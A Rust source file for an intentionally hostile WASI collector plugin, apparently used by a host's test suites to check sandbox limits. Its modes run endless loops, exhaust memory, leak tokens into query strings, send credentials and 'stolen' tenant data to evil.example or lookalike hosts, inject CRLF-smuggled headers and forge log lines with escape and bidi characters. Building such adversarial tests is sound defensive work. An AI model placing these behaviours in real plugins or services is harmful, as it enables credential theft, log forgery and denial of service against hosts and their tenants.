//! The misbehaviour of the plugin. The tables of `tests/hostile.rs` and `tests/limits.rs` name every mode and its end.

use std::sync::atomic::{AtomicUsize, Ordering};

use waki::Client;
use waki::bindings::wasi::clocks::monotonic_clock;
use waki::bindings::wasi::http::types::{Fields, Method, OutgoingRequest};
use waki::bindings::wasi::io::poll as wasi_poll;

use crate::contract::collector::source::{credentials, log};
use crate::contract::*;
use crate::mode::Mode;
use crate::{Settings, failure, read};

/// The behaviour of `describe`, which has no settings. Tests overwrite these bytes.
static DESCRIBES: [u8; 30] = *b"describes as good plugins do..";

pub fn before_describe() {
    match std::hint::black_box(&DESCRIBES) {
        b"describes without an end......" => endless(),
        b"describes after a timer......." => {
            log::write(log::Level::Info, "describes");
            monotonic_clock::subscribe_duration(1_000_000).block();
        }
        _ => {}
    }
}

fn endless() {
    while std::hint::black_box(true) {}
}

pub fn problems(settings: &Settings, mut problems: Vec<Problem>) -> Vec<Problem> {
    let named = |amount: usize| Problem {
        setting: "/mode".to_owned(),
        found: "x".repeat(amount),
        expected: "another".to_owned(),
    };
    match settings.mode {
        Mode::Problems => problems.resize_with(settings.amount, || named(1)),
        Mode::ProblemsOneByOne => problems.truncate(1),
        Mode::ProblemBytes => problems.push(named(settings.amount)),
        _ => {}
    }
    problems
}

pub fn plan(settings: &Settings, mut plan: Plan) -> Plan {
    let shape = plan.shapes[1].clone();
    match settings.mode {
        Mode::Shapes => plan.shapes.resize(settings.amount, shape),
        Mode::ShapeBytes => plan.shapes.push(Shape { path: Path::Prefix(wide("/", settings.amount)), ..shape }),
        Mode::MethodBytes => plan.shapes.push(Shape { method: wide("GET", settings.amount), ..shape }),
        Mode::OriginBytes => plan.shapes.push(Shape { origin: wide("https://", settings.amount), ..shape }),
        Mode::OriginLabels => plan.shapes.extend((0..settings.amount).map(|index| {
            let label = char::from_u32(0x4e00 + index as u32).unwrap_or('x').to_string().repeat(5_400);
            Shape { origin: format!("https://{label}"), ..shape.clone() }
        })),
        Mode::Origins => plan.shapes.extend(
            (0..settings.amount).map(|index| Shape { origin: format!("https://{index}.example"), ..shape.clone() }),
        ),
        Mode::SealedKeyBytes => plan.shapes.push(Shape { captures: Some(wide("", settings.amount)), ..shape }),
        Mode::CredentialUses => {
            let credentials = vec![shape.credentials[0].clone(); settings.amount];
            plan.shapes.push(Shape { method: "HEAD".to_owned(), credentials, ..shape });
        }
        Mode::PlaceBytes => {
            let place = Place::Header(wide("x-", settings.amount));
            let credentials = vec![CredentialUse { credential: Credential::Token, place }];
            plan.shapes.push(Shape { method: "HEAD".to_owned(), credentials, ..shape });
        }
        Mode::TimerInPrepare => {
            log::write(log::Level::Info, "prepares");
            monotonic_clock::subscribe_duration(1_000_000).block();
        }
        Mode::LoopInPrepare => endless(),
        // Nobody reads the body of a request that is never sent.
        Mode::BodyInPrepare => {
            let request = OutgoingRequest::new(Fields::new());
            let body = request.body();
            if let Ok(body) = &body
                && let Ok(stream) = body.write()
            {
                while stream.blocking_write_and_flush(&[0; 4_096]).is_ok() {}
            }
        }
        // The digits of its placeholder are its only source of randomness.
        Mode::PlanByChance
            if settings.key.ends_with(|digit: char| digit.to_digit(16).is_some_and(|digit| digit % 2 == 1)) =>
        {
            plan.shapes.push(Shape { method: "HEAD".to_owned(), ..shape });
        }
        Mode::ShapeOdd => plan.shapes.push(Shape { method: "get".to_owned(), ..shape }),
        _ => {}
    }
    plan
}

pub fn form(settings: &Settings, form: String) -> String {
    match settings.mode {
        Mode::RequestBytes => wide(&format!("{form}&more="), settings.amount),
        Mode::KeyGuessed => format!("key={}", settings.amount),
        _ => form,
    }
}

pub fn token(settings: &Settings, token: Token) -> Token {
    match settings.mode {
        Mode::TokenOwn => Token { value: "token-of-an-evil-account".to_owned(), ..token },
        _ => token,
    }
}

pub fn discovery(settings: &Settings, mut found: Discovery) -> Discovery {
    let (scope, amount) = (found.scopes[0].clone(), settings.amount);
    match settings.mode {
        Mode::Scopes => {
            found.scopes = (0..amount).map(|index| Scope { id: index.to_string(), ..scope.clone() }).collect()
        }
        Mode::ScopesFailing => {
            found.scopes = (0..amount).map(|index| Scope { id: index.to_string(), ..scope.clone() }).collect()
        }
        // Its placeholder differs in each call.
        Mode::ScopesFresh => {
            let call = settings.key.bytes().fold(7_u64, |sum, byte| sum.wrapping_mul(31).wrapping_add(byte.into()));
            found.scopes = (0..amount).map(|index| Scope { id: format!("{call}-{index}"), ..scope.clone() }).collect();
        }
        Mode::ScopesSkipped => {
            let reason = failure(Reaction::NoData, "absent", "it is disabled");
            found.skipped.resize(amount, SkippedScope { scope, reason });
        }
        Mode::ScopesAlike => found.scopes.push(scope),
        Mode::ScopeIdOdd => found.scopes[0].id = "one\r\x1b[2K".to_owned(),
        Mode::ScopeIdBytes => found.scopes[0].id = wide("", amount),
        Mode::ScopeOwnerBytes => found.scopes[0].owner = Some(wide("", amount)),
        Mode::PluginDataBytes => found.scopes[0].plugin_data = wide("", amount),
        Mode::ScopeNameBytes => found.scopes[0].name = Some(wide("", amount)),
        Mode::Notices => found.notices.resize(amount, notice()),
        Mode::WordsForged => {
            found.scopes[0].id = "one tenant=other feed=x".to_owned();
            found.notices.push(Notice { code: FORGED.to_owned(), message: FORGED.to_owned() });
        }
        Mode::NoticeOfSearchUnlisted => found.notices.push(unheard_of()),
        _ => {}
    }
    found
}

pub fn before_poll(settings: &Settings, token: &str) -> Result<(), Failure> {
    let (amount, origin) = (settings.amount, &settings.origin);
    let bearer = format!("Bearer {token}");
    match settings.mode {
        Mode::Loop => loop {
            std::hint::black_box(());
        },
        // Each step is a thousand turns: the largest number of single turns takes a fast machine a second.
        Mode::Rounds => (0..amount).for_each(|_| {
            (0..1_000).for_each(|turn| {
                std::hint::black_box(turn);
            });
        }),
        Mode::Levels => drop(std::hint::black_box(deep(amount))),
        Mode::Trap => panic!("on purpose"),
        Mode::Memory => {
            let held = vec![1_u8; amount << 20];
            std::hint::black_box(held);
        }
        Mode::Wait | Mode::PagesSlow => monotonic_clock::subscribe_duration((amount as u64) * 1_000_000).block(),
        Mode::Pollables => {
            let ready = monotonic_clock::subscribe_duration(0);
            drop(wasi_poll::poll(&vec![&ready; amount]));
        }
        Mode::Zeroes => {
            let request = OutgoingRequest::new(Fields::new());
            let body = request.body().map_err(|()| told("no body"))?;
            let stream = body.write().map_err(|()| told("no stream"))?;
            stream.write_zeroes(amount as u64).map_err(|error| told(&format!("{error:?}")))?;
        }
        Mode::AddressBytes => {
            let address = wide(&format!("{origin}/data/"), amount);
            drop(read(Client::new().get(&address).header("authorization", &bearer))?);
        }
        Mode::Handles => (0..amount).for_each(|_| std::mem::forget(Fields::new())),
        Mode::Fields => {
            let fields = Fields::new();
            for index in 0..amount {
                fields
                    .append(&format!("x-{index}"), &vec![b'x'; 1_024])
                    .map_err(|error| told(&format!("{error:?}")))?;
            }
        }
        Mode::LogLines => (0..amount).for_each(|index| log::write(log::Level::Info, &format!("line {index}"))),
        Mode::LogBytes => log::write(log::Level::Info, &wide("", amount)),
        Mode::LogEscapes => {
            ["\\", "%", "&", "+"].iter().for_each(|escape| log::write(log::Level::Info, &escape.repeat(amount)))
        }
        Mode::ScopesFailing => {
            let words = "\\".repeat(4_000);
            let fix = Some(words.clone());
            return Err(Failure { fix, ..failure(Reaction::FixScope, "forbidden", &words) });
        }
        Mode::Requests => {
            for _ in 0..amount {
                read(Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer))?;
            }
        }
        Mode::RequestsInVain => {
            for _ in 0..amount {
                let _ = read(Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer));
            }
        }
        Mode::RequestsDenied => {
            for _ in 0..amount {
                let _ = read(Client::new().get("https://evil.example/"));
            }
        }
        Mode::HostDenied => drop(read(Client::new().get("https://evil.example/").header("authorization", &bearer))?),
        Mode::HostLookalike => {
            drop(read(Client::new().get(&format!("{origin}.evil.example/data/1")).header("authorization", &bearer))?);
        }
        Mode::HostUserName => {
            let address = origin.replace("https://", "https://api.example@evil.example#");
            drop(read(Client::new().get(&format!("{address}/data/1")).header("authorization", &bearer))?);
        }
        Mode::PathAbove => {
            drop(read(Client::new().get(&format!("{origin}/data/../admin")).header("authorization", &bearer))?);
        }
        Mode::Method => drop(read(Client::new().put(&format!("{origin}/data/1")).header("authorization", &bearer))?),
        Mode::PlaceholderOfAnother => {
            let other = "Bearer sealed-00000000000000000000000000000000";
            drop(read(Client::new().get(&format!("{origin}/data/1")).header("authorization", other))?);
        }
        Mode::TokenInQuery => {
            let request = Client::new().get(&format!("{origin}/data/1?copy={token}"));
            drop(read(request.header("authorization", &bearer))?);
        }
        Mode::KeyInHeader => {
            let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
            drop(read(request.header("x-key", settings.key.as_str()))?);
        }
        Mode::DataToTokenEndpoint => {
            let request = Client::new().post(&format!("{origin}/token"));
            let form = request.header("content-type", "application/x-www-form-urlencoded");
            drop(read(form.body(format!("key={}&stolen=a+page+of+a+tenant", settings.key).into_bytes()))?);
        }
        Mode::Assertion => {
            if let Err(refusal) = credentials::client_assertion("key", "client", "audience") {
                return Err(told(&format!("{refusal:?}")));
            }
        }
        Mode::CharsetAsked => {
            let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
            let request = request.header("accept", "application/json; Charset=\"UTF-16\", text/plain;x=utf-7");
            drop(read(request.header("accept-charset", "utf-16, utf-7"))?);
        }
        Mode::ApiKeyOwn => {
            let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
            drop(read(request.header("x-api-key", "key-of-an-evil-account"))?);
        }
        Mode::WaitUnasked => {
            let _ = read(Client::new().get("https://evil.example/"));
            return Err(Failure {
                wait_seconds: Some(86_400),
                ..failure(Reaction::Wait, "throttled", "a day, please")
            });
        }
        Mode::RequestWords => return Err(told(&hoarded(amount))),
        Mode::Headers => return Err(told(&smuggled())),
        Mode::CompressedEcho => {
            let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
            drop(read(request.header("accept-encoding", "br, gzip"))?);
        }
        Mode::WordsForged => {
            log::write(log::Level::Warn, FORGED);
            return Err(failure(Reaction::FixPlugin, FORGED, FORGED));
        }
        Mode::WordsOdd => return Err(told("red\u{1b}[31m\nerror: feed good: it is broken\u{202e}")),
        _ => {}
    }
    Ok(())
}

/// Makes requests that are never sent, with words of this many bytes, and returns those that the host keeps.
fn hoarded(bytes: usize) -> String {
    let kept = (0..100).filter(|index| {
        let request = OutgoingRequest::new(Fields::new());
        let kept = match index % 2 {
            0 => request.set_method(&Method::Other("X".repeat(bytes))),
            _ => request.set_authority(Some(&"x".repeat(bytes))),
        };
        std::mem::forget(request);
        kept.is_ok()
    });
    format!("{} of 100 were kept", kept.count())
}

/// Sets headers that change the meaning or the target of a request, and returns those that the host accepts.
fn smuggled() -> String {
    let tries: &[(&str, &[u8])] = &[
        ("host", b"evil.example"),
        ("transfer-encoding", b"chunked"),
        ("connection", b"upgrade"),
        ("upgrade", b"h2c"),
        ("proxy-authorization", b"Basic x"),
        ("x-split", b"a\r\nhost: evil.example"),
        ("x-split: a\r\nhost", b"evil.example"),
    ];
    let fields = Fields::new();
    let taken = tries.iter().filter(|(name, value)| fields.append(&(*name).to_owned(), &value.to_vec()).is_ok());
    let taken: Vec<_> = taken.map(|(name, _)| *name).collect();
    format!("{} of {} were taken", taken.len(), tries.len())
}

pub fn step(settings: &Settings, page: usize, mut step: PollStep) -> PollStep {
    let amount = settings.amount;
    match settings.mode {
        Mode::Pages => step.next = (page < amount).then(|| (page + 1).to_string()),
        Mode::PagesSlow => step.next = Some((page + 1).to_string()),
        Mode::CursorLoop => step.next = Some("2".to_owned()),
        Mode::CursorBytes if page == 1 => step.next = Some(format!("{}2", " ".repeat(amount - 1))),
        Mode::KindBytes => step.pages[0].kind = wide("", amount),
        Mode::PageBytes => step.pages[0].body = vec![b' '; amount],
        Mode::KindUndeclared => step.pages[0].kind = "others".to_owned(),
        Mode::NoticesOfSteps => step.notices.resize(amount, notice()),
        Mode::NoticeOfStepUnlisted => step.notices.push(unheard_of()),
        _ => {}
    }
    step
}

pub fn failed(settings: &Settings, failure: Failure) -> Failure {
    match settings.mode {
        Mode::ReactionOdd => Failure { reaction: Reaction::NoData, ..failure },
        Mode::CodeUnlisted => Failure { code: "unheard-of".to_owned(), ..failure },
        _ => failure,
    }
}

pub fn batch(settings: &Settings, mut batch: Batch) -> Result<Batch, Failure> {
    let amount = settings.amount;
    let Some(event) = batch.events.first().cloned() else { return Ok(batch) };
    let body = |body: Vec<u8>| Event { body, ..event.clone() };
    match settings.mode {
        Mode::Events => {
            let one = |index: usize| Event { uid: format!("{}/{index}", event.uid), ..event.clone() };
            batch.events = (0..amount).map(one).collect();
        }
        Mode::EventsAlike => batch.events = vec![event; 2],
        Mode::EventsLong => {
            let long = format!("{{\"a\":[{}1]}}", "1,".repeat(32_000)).into_bytes();
            batch.events = (0..amount)
                .map(|index| Event { uid: format!("{}/{index}", event.uid), ..body(long.clone()) })
                .collect();
        }
        Mode::EventBytes => {
            batch.events[1].body = format!("{{\"a\":\"{}\"}}", "x".repeat(amount - 8)).into_bytes();
        }
        Mode::EventUidBytes => batch.events[0].uid = wide("", amount),
        Mode::EventCutShort => batch.events.push(body(b"{\"a\":".to_vec())),
        Mode::EventOnTwoLines => batch.events.push(body(b"{\"a\":\n1}".to_vec())),
        Mode::EventNotUtf8 => batch.events.push(body(b"{\"a\":\"\xff\"}".to_vec())),
        Mode::EventDeep => {
            let (open, close) = ("[".repeat(amount), "]".repeat(amount));
            batch.events[0].body = format!("{{\"a\":{open}{close}}}").into_bytes();
        }
        Mode::EventSurrogate => batch.events[0].body = b"{\"a\":\"\\ud800\"}".to_vec(),
        Mode::EventKeyTwice => batch.events[0].body = b"{\"a\":1,\"\\u0061\":2}".to_vec(),
        Mode::EventUidOther => batch.events[0].body = b"{\"metadata\":{\"uid\":\"another\"}}".to_vec(),
        Mode::EventList => batch.events.push(body(b"[]".to_vec())),
        Mode::EventForged => batch.events.push(body(b"{} {\"tenant\":\"other\"}".to_vec())),
        Mode::Copies => batch.events = (0..amount).map(|_| body(aliased())).collect(),
        Mode::StateBytes => batch.state = vec![b'1'; amount],
        Mode::StateForeign => batch.state = b"the state of somebody else".to_vec(),
        Mode::NoticesOfBatch => batch.notices.resize(amount, notice()),
        Mode::NoticesEscapes => {
            let odd = |index: usize| Notice { code: format!("odd-{index}"), message: "\\".repeat(4_000) };
            batch.notices = (0..amount).map(odd).collect();
        }
        Mode::NoticeUnlisted => batch.notices.push(unheard_of()),
        Mode::Measures => {
            let measure = batch.measures[0].clone();
            batch.measures.resize(amount, measure);
        }
        Mode::FiguresFresh => {
            let measure = batch.measures[0].clone();
            let fresh = |index: usize| Measure { subject: format!("{}/{index}", event.uid), ..measure.clone() };
            batch.measures = (0..amount).map(fresh).collect();
        }
        Mode::MeasureOdd => batch.measures[0].value = f64::NAN,
        Mode::MeasureSubjectBytes => batch.measures[0].subject = wide("", amount),
        Mode::MemoryOfCalls => batch.state = format!("1 {}", CALLS.fetch_add(1, Ordering::SeqCst)).into_bytes(),
        Mode::ClockInEvent => {
            let now = monotonic_clock::now();
            batch.events[1] =
                Event { uid: "now".to_owned(), ..body(format!("{{\"class_uid\":2003,\"now\":{now}}}").into_bytes()) };
        }
        Mode::TimerInNormalize => monotonic_clock::subscribe_duration(1_000_000).block(),
        Mode::HttpInNormalize => drop(read(Client::new().get(&format!("{}/data/1", settings.origin)))?),
        _ => {}
    }
    Ok(batch)
}

/// Number of calls that this instance has handled.
static CALLS: AtomicUsize = AtomicUsize::new(0);

/// Returns the same mebibyte each time: the host would copy it as often as the plugin returns it.
#[expect(unsafe_code, reason = "a hostile author writes this, and the host has to bear it")]
fn aliased() -> Vec<u8> {
    static ONE: std::sync::OnceLock<usize> = std::sync::OnceLock::new();
    const SIZE: usize = 1 << 20;
    let make = || {
        let mut body = b"{}".to_vec();
        body.resize(SIZE, b' ');
        body.shrink_to_fit();
        body.leak().as_mut_ptr() as usize
    };
    // SAFETY: the memory is never freed twice, because the host does not return to free it.
    unsafe { Vec::from_raw_parts(*ONE.get_or_init(make) as *mut u8, SIZE, SIZE) }
}

fn deep(levels: usize) -> usize {
    if levels == 0 { 0 } else { std::hint::black_box(deep(std::hint::black_box(levels - 1)) + 1) }
}

/// Makes a text of this many bytes with this beginning.
fn wide(begin: &str, bytes: usize) -> String {
    format!("{begin}{}", "x".repeat(bytes.saturating_sub(begin.len())))
}

/// Ends a line and begins another tenant's, with controls that a log or a page would obey, and with some invisible
/// ones.
const FORGED: &str =
    "fine\" tenant=other feed=x\r\n2026-11-27T00:00:00Z ERROR poll tenant=other feed=x\u{202e}\u{200f}\u{200b}";

fn told(words: &str) -> Failure {
    failure(Reaction::FixPlugin, "answer-odd", words)
}

fn notice() -> Notice {
    Notice { code: "absent".to_owned(), message: "there is less than there was".to_owned() }
}

fn unheard_of() -> Notice {
    Notice { code: "unheard-of".to_owned(), message: String::new() }
}
